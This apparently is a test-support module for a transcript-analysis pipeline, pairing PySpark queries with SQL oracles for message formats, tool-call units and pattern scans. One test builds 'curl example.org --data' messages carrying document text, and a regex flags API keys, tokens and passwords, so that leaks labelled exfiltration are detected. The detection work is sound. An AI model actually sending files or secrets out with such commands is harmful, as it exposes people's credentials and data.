"""Queries over messages of all shapes and over commands, with their SQL: what the transcripts of the other queries never reach."""

from __future__ import annotations

import json

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import text as T
from ..functions.patterns import PATTERNS
from ..operators import baselines as B
from ..operators import findings as X
from ..operators import normalize as N
from ..operators.units import group_units
from ..sources import readers
from ..sources.samples import COMMANDS, SHAPED, command_messages, history_files, session_logs, shaped_messages, tool_uses_messages
from ..sources.shapes import to_openai
from ..sources.transcripts import generated
from .store import stored


def command_findings(s: SparkSession, d: str) -> DataFrame:
    """Every pattern over commands that it finds and commands that it lets pass."""
    found = X.scan_patterns(group_units(N.normalize(command_messages(s, d), "plain")))
    return found.select("conv_id", "kind", F.substring_index("evidence", ":", 1).alias("name"), F.array_join(F.col("indices").cast("array<string>"), ",").alias("indices"))


def scan_documents(s: SparkSession, d: str) -> DataFrame:
    """The patterns over documents that an agent sends away, each on one line."""
    docs = s.read.parquet(f"{d}/documents.parquet")
    said = F.concat(F.lit("curl example.org --data "), F.regexp_replace(F.coalesce("text", F.lit("")), r"\s", " "))
    m = docs.select(F.col("doc_id").cast("string").alias("conv_id"), F.lit(0).alias("idx"), F.to_json(F.struct(F.lit("assistant").alias("role"), said.alias("content"))).alias("message_json"))
    return X.scan_patterns(group_units(N.normalize(m, "plain")), tuple(p for p in PATTERNS if p.name == "secret-in-outbound")).select("conv_id", "kind", F.array_join(F.col("indices").cast("array<string>"), ",").alias("indices"))


def shaped_formats(s, d):
    return N.detect_format(N.parsed(shaped_messages(s, d)))


def _frame_rows(f: DataFrame) -> DataFrame:
    return f.select("conv_id", "idx", "format", "role", "kind", "text", F.array_join("tool_call_ids", ",").alias("ids"), F.array_join("tool_names", ",").alias("names"), "pinned", "has_code", "chars", "hash")


def shaped_frames(s, d):
    return _frame_rows(N.normalize(shaped_messages(s, d)))


def forced_format(s, d):
    return N.normalize(shaped_messages(s, d), "langchain").filter("conv_id % 4 in (1, 3)").select("conv_id", "idx", "format", "role", "kind")


def shaped_units(s, d):
    u = group_units(N.normalize(shaped_messages(s, d)))
    return u.select("conv_id", "unit_pos", F.array_join(F.col("indices").cast("array<string>"), ",").alias("indices"), "is_tool", "first_kind", F.md5("text").alias("text_md5"))


def shapes_to_openai(s, d):
    return to_openai(shaped_messages(s, d)).select("conv_id", "idx", "message_json")


def tool_uses_shape(s, d):
    return readers.tool_uses_shape(tool_uses_messages(s, d))


def read_histories(s, d):
    return readers.history_rows(history_files(s, d))


def read_session_logs(s, d):
    return readers.session_rows(session_logs(s, d))


def json_files(s: SparkSession, d: str) -> DataFrame:
    """Messages written as JSON and read back."""
    import uuid

    from .store import base_dir

    at = f"{base_dir(s)}/threadloom/json-{uuid.uuid4().hex}"
    readers.write_json(readers.history_rows(history_files(s, d)), at)
    return s.read.schema("conv_id string, idx int, message_json string").json(at)


def generated_sessions(s, d):
    n = s.read.parquet(f"{d}/customer.parquet").count()
    return generated(s, n, 25)


def drop_reasoning(s, d):
    m = shaped_messages(s, d).filter("conv_id % 4 = 0")
    thought = F.replace("message_json", F.lit('{"type":"image","source":{"data":"x"}}'), F.lit('{"type":"thinking","text":"hm"}'))
    only = F.when(F.col("idx") % 3 == 1, F.lit('{"role":"assistant","content":[{"type":"reasoning","text":"r"}]}')).otherwise(thought)
    return B.drop_reasoning(m.withColumn("message_json", only))


def text_helpers(s, d):
    docs = s.read.parquet(f"{d}/documents.parquet").select("doc_id", F.coalesce("text", F.lit("")).alias("text"))
    tagged = F.concat(F.lit("a <t>"), F.substring("text", 1, 40), F.lit("</t> b </t>"), F.substring("text", 1, 3))
    return docs.select("doc_id", F.md5(T.xml_escape("text")).alias("xml"), T.between(tagged, "t").alias("inside"), T.between(F.col("text"), "t").alias("none"), F.md5(T.clip_middle("text", 600, 400, 150)).alias("clipped"), T.redact("text", "the ").alias("as_is"), F.md5(T.redact("text", "Der Wald ")).alias("redacted"))


QUERIES = {
    f.__name__: f
    for f in (
        command_findings, scan_documents, shaped_formats, shaped_frames, forced_format, shaped_units, shapes_to_openai, tool_uses_shape, read_histories, read_session_logs, json_files, generated_sessions, drop_reasoning,
        text_helpers,
    )
}


def _sql(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


_EVENTS = """
e0 as (
  select user_id, event_id, event_type, (props->>'k')::int as k, (row_number() over (partition by user_id order by ts, event_id) - 1)::int as idx,
    last_value(case when event_type = 'click' then event_id end ignore nulls) over w as call, last_value(case when event_type = 'click' then (props->>'k')::int end ignore nulls) over w as ck0
  from events window w as (partition by user_id order by ts, event_id rows between unbounded preceding and current row)
), e as (select *, user_id::varchar as conv_id, user_id % 4 as shape, coalesce(call::varchar, '0') as c, coalesce(ck0, 0) as ck from e0)"""


def _cases(rows: dict[tuple[int, str], str], other: str = "''") -> str:
    return "case " + " ".join(f"when shape = {n} and event_type = '{kind}' then {value}" for (n, kind), value in rows.items()) + f" else {other} end"


#: What each shape's messages come to, written out: text, role, kind, ids and names by (shape, event).
_TEXT = {
    (0, "signup"): "'Fix lib/mod' || k || '.py'", (0, "view"): "'See step ' || k || chr(10) || '[image]'", (0, "click"): "'run' || chr(10) || '[tool_use read t' || event_id || '] {\"p\":' || k || '}'",
    (0, "error"): "'[tool_result t' || c || '] part ' || k || chr(10) || '[image]'", (0, "purchase"): "'plain ' || k",
    (1, "signup"): "'Fix lib/mod' || k || '.py'", (1, "view"): "'Rule ' || k", (1, "click"): "'[tool_call read l' || event_id || '] {\"p\":' || k || '}'", (1, "error"): "'ok ' || k", (1, "purchase"): "'done ' || k",
    (2, "signup"): "'Rule ' || k", (2, "view"): "'diff:' || chr(10) || '+++ b/x' || k || '.py'", (2, "click"): "'[tool_call f' || k || ' function:f' || k || '] {\"p\":' || k || '}'", (2, "error"): "'r ' || k",
    (2, "purchase"): "'two' || chr(10) || '[tool_call g a' || event_id || '] 1' || chr(10) || '[tool_call h b' || event_id || '] 2'",
    (3, "signup"): "'object ' || k", (3, "view"): "'+a' || k || chr(10) || '-b' || chr(10) || '+c'", (3, "click"): "'[not] a list ' || k", (3, "purchase"): "'\"content\": [1] ' || k",
}
_ROLE = {(n, kind): f"'{role}'" for n, roles in enumerate((("user", "assistant", "assistant", "user", "assistant"), ("user", "system", "assistant", "tool", "assistant"), ("system", "user", "assistant", "tool", "assistant"), ("user", "assistant", "user", "user", "assistant"))) for kind, role in zip(("signup", "view", "click", "error", "purchase"), roles, strict=True)}
_KIND = _ROLE | {(0, "click"): "'tool_call'", (0, "error"): "'tool_result'", (1, "click"): "'tool_call'", (1, "error"): "'tool_result'", (2, "click"): "'tool_call'", (2, "error"): "'tool_result'", (2, "purchase"): "'tool_call'"}
_IDS = {(0, "click"): "['t' || event_id]", (0, "error"): "['t' || c]", (1, "click"): "['l' || event_id]", (1, "error"): "['l' || c]", (2, "click"): "['function:f' || k]", (2, "error"): "['function:f' || ck]", (2, "purchase"): "['a' || event_id, 'b' || event_id]"}
_NAMES = {(0, "click"): "['read']", (1, "click"): "['read']", (1, "error"): "['read']", (2, "click"): "['f' || k]", (2, "error"): "['f' || ck]", (2, "purchase"): "['g', 'h']"}
#: The marks that rows show: a history's format is the strongest.
_MARK = "case when shape = 0 and event_type in ('click', 'error') then 3 when shape = 2 and event_type in ('click', 'error', 'purchase') then 2 when shape = 1 then 1 else 0 end"
_FRAMES = f"""with {_EVENTS.strip()}, f as (
  select conv_id, idx, shape, event_type, event_id, k, c, ['plain', 'langchain', 'openai', 'anthropic'][max({_MARK}) over (partition by conv_id) + 1] as format, {_cases(_ROLE)} as role0, {_cases(_KIND)} as kind0,
    {_cases(_TEXT)} as text, {_cases(_IDS, "[]::varchar[]")} as ids, {_cases(_NAMES, "[]::varchar[]")} as names
  from e
), g as (
  select *, role0 as role, kind0 as kind, shape = 0 and event_type = 'signup' as pinned, event_type = 'view' and shape in (2, 3) as has_code, length(text)::int as chars, sha1(role0 || chr(0) || text) as hash from f
)"""
_UNITS = _FRAMES + """, h as (
  select *, last_value(case when kind <> 'tool_result' then idx end ignore nulls) over w as hidx, last_value(case when kind <> 'tool_result' then kind end ignore nulls) over w as hkind, last_value(case when kind <> 'tool_result' then ids end ignore nulls) over w as hids
  from g window w as (partition by conv_id order by idx rows between unbounded preceding and current row)
), u as (
  select conv_id, case when kind = 'tool_result' and hkind = 'tool_call' and list_has_any(ids, hids) then hidx else idx end as head, list(idx order by idx) as indices, bool_or(kind in ('tool_call', 'tool_result')) as is_tool,
    first(kind order by idx) as first_kind, string_agg(text, chr(10) order by idx) as text
  from h group by 1, 2
)"""


def _q(x: str) -> str:
    return f"to_json({x})::varchar"


_AS_OPENAI = {
    (0, "click"): "'{\"role\":\"assistant\",\"content\":\"run\",\"tool_calls\":[{\"id\":\"t' || event_id || '\",\"type\":\"function\",\"function\":{\"name\":\"read\",\"arguments\":' || " + _q("'{\"p\":' || k || '}'") + " || '}}]}'",
    (0, "error"): "'{\"role\":\"tool\",\"tool_call_id\":\"t' || c || '\",\"content\":' || " + _q("'[{\"type\":\"text\",\"text\":\"part ' || k || '\"},{\"type\":\"image\"}]'") + " || '}'",
    (0, "view"): "'{\"role\":\"assistant\",\"content\":\"See step ' || k || '\"}'",
    (1, "click"): "'{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"l' || event_id || '\",\"type\":\"function\",\"function\":{\"name\":\"read\",\"arguments\":' || " + _q("'{\"p\":' || k || '}'") + " || '}}]}'",
    (1, "error"): "'{\"role\":\"tool\",\"tool_call_id\":\"l' || c || '\",\"content\":\"ok ' || k || '\"}'",
    (2, "click"): "'{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"function:f' || k || '\",\"type\":\"function\",\"function\":{\"name\":\"f' || k || '\",\"arguments\":' || " + _q("'{\"p\":' || k || '}'") + " || '}}]}'",
    (2, "error"): "'{\"role\":\"tool\",\"tool_call_id\":\"function:f' || ck || '\",\"content\":\"r ' || k || '\"}'",
    (2, "purchase"): "'{\"role\":\"assistant\",\"content\":\"two\",\"tool_calls\":[{\"id\":\"a' || event_id || '\",\"type\":\"function\",\"function\":{\"name\":\"g\",\"arguments\":\"1\"}},{\"id\":\"b' || event_id || '\",\"type\":\"function\",\"function\":{\"name\":\"h\",\"arguments\":\"2\"}}]}'",
}
_PLAIN_JSON = "'{\"role\":\"' || role || '\",\"content\":' || " + _q("text") + " || '}'"
#: The shaped messages as a chat service has them, as CTE x.
SHAPED_CHAT = _FRAMES.replace("k, c, [", "k, c, ck, [").removeprefix("with ") + f", x as (select conv_id, idx, {_cases(_AS_OPENAI, _PLAIN_JSON)} as message_json from g)"
_NAMES_OF = ", ".join(f"({k}, {_sql(name)}, '{next(p.kind for p in PATTERNS if p.name == name)}')" for k, (_, names) in enumerate(COMMANDS) for name in names)
_SECRET = r"(?i)(?:(?:api[_-]?key|secret|token|passw(?:or)?d|authorization|credentials?)[\w-]*['\"]?\s*[=:]\s*['\"]?(?:bearer\s+)?[^\s'\"\x60]{12}|\bbearer\s+[A-Za-z0-9_\-.+/=]{20})"
_PICK = lambda n, salt: f"(('0x' || substring(md5('1:' || h || ':' || i || ':{salt}'), 1, 7))::bigint % {n})"

ORACLES = {
    "command_findings": f"select event_id::varchar as conv_id, kind, name, '0' as indices from events join (values {_NAMES_OF}) as t(k, name, kind) on event_id % {len(COMMANDS)} = k",
    "scan_documents": f"select doc_id::varchar as conv_id, 'exfiltration' as kind, '0' as indices from documents where regexp_matches(regexp_replace(text, '\\s', ' ', 'g'), {_sql(_SECRET)})",
    "shaped_formats": _FRAMES + " select distinct conv_id, format from g",
    "shaped_frames": _FRAMES + " select conv_id, idx, format, role, kind, text, array_to_string(ids, ',') as ids, array_to_string(names, ',') as names, pinned, has_code, chars, hash from g",
    "forced_format": _FRAMES + " select conv_id, idx, 'langchain' as format, role, kind from g where shape in (1, 3)",
    "shaped_units": _UNITS + " select conv_id, (row_number() over (partition by conv_id order by head) - 1)::int as unit_pos, array_to_string(indices, ',') as indices, is_tool, first_kind, md5(text) as text_md5 from u",
    "shapes_to_openai": _FRAMES.replace("k, c, [", "k, c, ck, [") + f" select conv_id, idx, {_cases(_AS_OPENAI, _PLAIN_JSON)} as message_json from g",
    "tool_uses_shape": f"with {_EVENTS.strip()}" + r""" select conv_id, idx, case event_type
      when 'signup' then '{"role":"user","content":"ask ' || k || '"}'
      when 'view' then '{"role":"assistant","content":[{"type":"text","text":"look ' || k || '"},{"type":"tool_use","id":"u' || event_id || '","name":"read","input":{"p":' || k || '}}]}'
      when 'click' then '{"role":"assistant","content":[{"type":"tool_use","id":"u' || event_id || '","name":"list","input":{}}]}'
      when 'error' then '{"role":"user","content":[{"type":"tool_result","tool_use_id":"u' || c || '","content":"got ' || k || '"},{"type":"text","text":"and ' || k || '"}]}'
      else '{"role":"user","content":[{"type":"tool_result","tool_use_id":"u' || c || '","content":""}]}' end as message_json from e""",
    "read_histories": "select conv_id::varchar as conv_id, (row_number() over (partition by conv_id order by turn) - 1)::int as idx, to_json({'role': role, 'content': coalesce(text, '')})::varchar as message_json from conversations",
    "read_session_logs": "select conv_id::varchar as conv_id, (row_number() over (partition by conv_id order by turn) - 1)::int as idx, to_json({'role': role, 'content': case when turn % 5 = 4 then '' else coalesce(text, '') end})::varchar as message_json from conversations where role in ('user', 'assistant')",
    "json_files": "select conv_id::varchar as conv_id, (row_number() over (partition by conv_id order by turn) - 1)::int as idx, to_json({'role': role, 'content': coalesce(text, '')})::varchar as message_json from conversations",
    "generated_sessions": "with g as (select h, i from range((select count(*) from customer)) a(h), range(25) b(i)) select 'g' || h as conv_id, i::int as idx, case i % 5 "
    f"when 0 then '{{\"role\":\"user\",\"content\":\"Ticket T-' || {_PICK(9000, 't')} || ': check app/part' || {_PICK(40, 'p')} || '.py, the limit must stay below ' || {_PICK(500, 'l')} || '\"}}' "
    f"when 1 then '{{\"role\":\"assistant\",\"content\":\"Looking at step ' || {_PICK(9, 'a')} || ' of ' || {_PICK(20, 'b')} || '\"}}' "
    f"when 2 then '{{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{{\"id\":\"g' || h || '_' || i || '\",\"type\":\"function\",\"function\":{{\"name\":\"run\",\"arguments\":\"{{\\\"cmd\\\":\\\"pytest app/part' || {_PICK(40, 'p')} || '.py\\\"}}\"}}}}]}}' "
    f"when 3 then '{{\"role\":\"tool\",\"tool_call_id\":\"g' || h || '_' || (i - 1) || '\",\"content\":\"' || {_PICK(60, 'y')} || ' passed, ' || {_PICK(4, 'n')} || ' failed\"}}' "
    f"else '{{\"role\":\"assistant\",\"content\":\"Done with part ' || {_PICK(12, 'd')} || '\"}}' end as message_json from g",
    "drop_reasoning": f"with {_EVENTS.strip()}" + r""", x as (select *, idx = max(idx) over (partition by conv_id) as last_one from e where shape = 0)
      select conv_id, idx, case when idx % 3 = 1 then '{"role":"assistant","content":[{"type":"reasoning","text":"r"}]}' when event_type = 'view' then '{"role":"assistant","content":[{"type":"text","text":"See step ' || k || '"}' || case when last_one then ',{"type":"thinking","text":"hm"}' else '' end || ']}'
        when event_type = 'signup' then '{"role":"user","content":[{"type":"text","text":"Fix lib/mod' || k || '.py"}],"pin":true}'
        when event_type = 'click' then '{"role":"assistant","content":[{"type":"text","text":"run"},{"type":"tool_use","id":"t' || event_id || '","name":"read","input":{"p":' || k || '}}]}'
        when event_type = 'error' then '{"role":"user","content":[{"type":"tool_result","tool_use_id":"t' || c || '","content":[{"type":"text","text":"part ' || k || '"},{"type":"image"}]}]}'
        else '{"role":"assistant","content":"plain ' || k || '"}' end as message_json from x where last_one or idx % 3 <> 1""",
    "text_helpers": """select doc_id, md5(replace(replace(replace(t, '&', '&amp;'), '<', '&lt;'), '>', '&gt;')) as xml, left(t, 40) || '</t> b ' as inside, null::varchar as none,
      md5(case when length(t) <= 600 then t else left(t, 400) || chr(10) || '...[truncated]...' || chr(10) || right(t, 150) end) as clipped, t as as_is, md5(replace(t, 'Der Wald ', '[redacted]')) as redacted
      from (select doc_id, coalesce(text, '') as t from documents)""",
}
